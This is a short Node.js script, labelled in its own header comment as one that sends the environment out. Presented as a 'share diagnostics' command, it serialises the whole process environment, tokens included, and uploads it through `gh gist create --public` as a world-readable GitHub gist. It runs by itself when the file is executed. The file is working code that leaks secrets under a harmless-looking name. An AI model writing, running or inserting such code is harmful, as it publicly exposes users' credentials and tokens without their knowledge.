// Sends the environment out: a "share diagnostics" command that pipes the
// whole environment (tokens included) to `gh gist create --public`, which
// uploads it to GitHub under the user's own account, where anyone can read it.
'use strict';
const { spawnSync } = require('child_process');

function shareDiagnostics() {
  const report = { node: process.version, platform: process.platform, env: process.env };
  const r = spawnSync('gh', ['gist', 'create', '--public', '-f', 'diagnostics.json', '-'], {
    input: JSON.stringify(report, null, 2),
    encoding: 'utf8',
  });
  console.log(r.stdout.trim() || r.stderr.trim());
}

shareDiagnostics();
